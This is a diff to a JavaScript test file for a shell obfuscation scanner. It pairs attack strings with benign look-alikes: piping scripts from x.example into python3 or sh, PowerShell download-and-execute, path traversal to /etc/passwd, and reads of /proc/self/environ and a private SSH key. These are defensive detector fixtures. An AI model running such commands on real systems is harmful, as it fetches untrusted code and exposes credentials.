@@ -62,7 +62,11 @@ describe("shell obfuscation scanner", () => {
     ["Remote Script Execution", "wget -qO- https://x.example/p.py | python3", "curl -s https://api.example.com/r | jq .stars"],
     ["Remote Script Execution", "sh <(curl -s https://x.example/i.sh)", "diff <(sort a.txt) <(sort b.txt)"],
     ["PowerShell Encoded Command", "powershell -NoProfile -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "powershell -NoProfile -Command Get-Date"],
-    ["PowerShell Encoded Command", "iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')", "Get-ChildItem C:\\logs | Select-Object Name"]
+    ["PowerShell Encoded Command", "iex (New-Object Net.WebClient).DownloadString('https://x.example/a.ps1')", "Get-ChildItem C:\\logs | Select-Object Name"],
+    ["Path Traversal", "../../../../../../etc/passwd", "../shared/config/defaults.json"],
+    ["Path Traversal", "..%2f..%2f..%2fetc%2fhosts", "../../node_modules/.bin/tsc"],
+    ["Sensitive System File", "/proc/self/environ", "/proc/cpuinfo"],
+    ["Sensitive System File", "cat ~/.ssh/id_ed25519", "cat ~/.ssh/id_ed25519.pub"]
   ]
   for (const [name, attack, benign] of tricks) {
     it(`${name}: ${attack.slice(0, 40)}`, () => {
